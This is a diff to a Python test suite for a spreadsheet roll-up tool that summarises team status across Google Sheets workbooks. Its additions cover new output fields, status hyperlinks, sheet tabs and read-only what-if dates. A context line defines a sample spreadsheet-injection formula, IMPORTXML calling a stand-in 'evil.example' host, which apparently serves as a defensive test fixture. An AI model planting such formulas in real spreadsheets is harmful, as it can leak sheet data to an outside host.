@@ -27,7 +27,7 @@ from tst_sheets.jobs.rollup import RollupResult, rollup
 from tst_sheets.jobs.roster import read_roster
 from tst_sheets.model import Program
 from tst_sheets.rollup.start_here import MARKER
-from tst_sheets.workspace import Workspace
+from tst_sheets.workspace import Workspace, connect
 
 AS_OF = date(2026, 11, 23)
 EVIL = '=IMPORTXML("http://evil.example/x","//a")'
@@ -57,7 +57,8 @@ class World:
     connect_as: Callable[[str], Workspace]
 
     def run(self, as_of: date = AS_OF, full: bool = False) -> RollupResult:
-        return rollup(self.ws, self.roster_id, as_of, full=full)
+        """A run on its as-of date: the roll-up written as that day's would be."""
+        return rollup(self.ws, self.roster_id, as_of, full=full, write=True)
 
 
 @pytest.fixture
@@ -146,13 +147,26 @@ def test_cold_run_reads_each_workbook_once(world: World) -> None:
     assert set(dump) == {
         "rollupSpreadsheetId",
         "url",
+        "asOf",
+        "written",
         "teams",
+        "byStatus",
         "read",
         "reused",
         "unreadable",
+        "statuses",
         "findings",
+        "staffFindings",
         "calls",
     }
+    team = dump["statuses"][0]
+    assert {"teamId", "status", "why", "commitments", "goal"} <= set(team)
+    assert set(team["why"]) == {"text", "link"}
+    assert {"id", "owner", "status", "figures"} <= set(team["commitments"][0])
+    assert {"baseline", "midYear", "endOfYear", "target", "progress", "onPace"} <= set(team["goal"])
+    meetings = next(c for c in team["commitments"] if c["id"] == "team_meetings")
+    assert "thisMonth" in meetings["figures"] and "this_month" not in meetings["figures"]
+    assert "meetingsThisMonth" in team["metrics"]
 
 
 def test_a_finding_links_to_its_cell(world: World) -> None:
@@ -288,12 +302,15 @@ def test_start_here_shows_the_team_its_status(world: World) -> None:
     world.run()
     rows = shown(world.ws, world.books["T02"], "Start Here")
     labels = {r[0]: r[1] for r in rows if len(r) > 1}
-    assert labels["Status"].startswith("Behind: ")
+    # the first screen: the status and its reason, linked to the cell that shows it
+    assert labels["Status"].startswith('=HYPERLINK("https://docs.google.com/spreadsheets/d/')
+    assert '","Behind: Team meets twice a month: 0 meetings in October 2026' in labels["Status"]
     start = next(i for i, r in enumerate(rows) if r and r[0] == MARKER)
     assert rows[start + 1] == ["Overall", "Behind"]
     assert any(r[1].startswith("Behind: meetings this month") for r in rows[start:] if len(r) > 1)
     links = [r[0] for r in rows[start:] if r and str(r[0]).startswith("=HYPERLINK(")]
-    assert any('&range=B3","Coaching!B3")' in link for link in links)
+    assert any('","Meetings!A' in link for link in links)  # the missed month, at its row
+    assert not any("Coaching!B3" in link for link in links)  # a short session is only a note
 
 
 def test_a_rollup_edited_by_hand_is_put_right(world: World) -> None:
@@ -330,7 +347,17 @@ def test_a_rollup_edited_by_hand_is_put_right(world: World) -> None:
             book, params={"fields": "sheets.properties.title"}
         )["sheets"]
     ]
-    assert titles == ["Summary", "Findings", "By Coach", "Trends", "Events", "About", "_state"]
+    assert titles == [
+        "Summary",
+        "Findings",
+        "By Coach",
+        "Impact",
+        "Trends",
+        "Events",
+        "Staff",
+        "About",
+        "_state",
+    ]
     again = world.run(as_of=date(2026, 11, 25))
     assert again.calls["sheets"]["write"] - len(again.start_here_written) == 1
 
@@ -351,3 +378,45 @@ def test_cli_json_and_summary(world: World, service_env: Settings) -> None:
     assert "Teams by status" in shown_.output and "3 workbooks read" in shown_.output
     bad = CliRunner().invoke(app, ["rollup", "--as-of", "23/11/2026"], env=env)
     assert bad.exit_code == 2
+
+
+# --- what-if dates -----------------------------------------------------------------------------
+
+
+def test_a_what_if_date_writes_nothing_and_answers_what_the_rollup_would_say(
+    world: World, settings: Settings
+) -> None:
+    """On Dec 1, a past or a future date is a what-if: read, checked, never written."""
+    first = world.run()
+    on_dec_1 = connect(settings.model_copy(update={"as_of": date(2026, 12, 1)}))
+    modified = {f.id: f.modified_time for f in list_program_files(on_dec_1)}
+    for day in (AS_OF, date(2027, 5, 1)):
+        what_if = rollup(on_dec_1, world.roster_id, day)
+        assert what_if.calls["sheets"]["write"] == 0 and what_if.calls["drive"]["write"] == 0
+        assert not what_if.written and what_if.as_of == day
+    assert {f.id: f.modified_time for f in list_program_files(on_dec_1)} == modified
+    past = rollup(on_dec_1, world.roster_id, AS_OF)
+    assert past.rollup_spreadsheet_id == first.rollup_spreadsheet_id
+    same = ("statuses", "findings", "staffFindings", "byStatus", "teams", "asOf")
+    dump = past.model_dump(by_alias=True, mode="json")
+    assert {k: dump[k] for k in same} == {
+        k: v for k, v in first.model_dump(by_alias=True, mode="json").items() if k in same
+    }
+    written = rollup(on_dec_1, world.roster_id, date(2027, 5, 1), write=True)
+    assert written.written and written.calls["sheets"]["write"] >= 1
+
+
+def test_cli_rollup_as_of_a_past_date_reports_zero_sheets_writes(
+    world: World, service_env: Settings
+) -> None:
+    env = {"TST_AS_OF": "2026-12-01"}
+    args = ["rollup", "--roster", world.roster_id, "--as-of", "2026-11-23", "--json"]
+    out = CliRunner().invoke(app, args, env=env)
+    assert out.exit_code == 0, out.output
+    data = json.loads(out.output)
+    assert data["calls"]["sheets"]["write"] == 0 and data["written"] is False
+    assert data["asOf"] == "2026-11-23" and data["statuses"]
+    shown_ = CliRunner().invoke(app, args[:-1], env=env)
+    assert "nothing written" in shown_.output and "--write" in shown_.output
+    write = CliRunner().invoke(app, [*args, "--write"], env=env)
+    assert json.loads(write.output)["calls"]["sheets"]["write"] >= 1
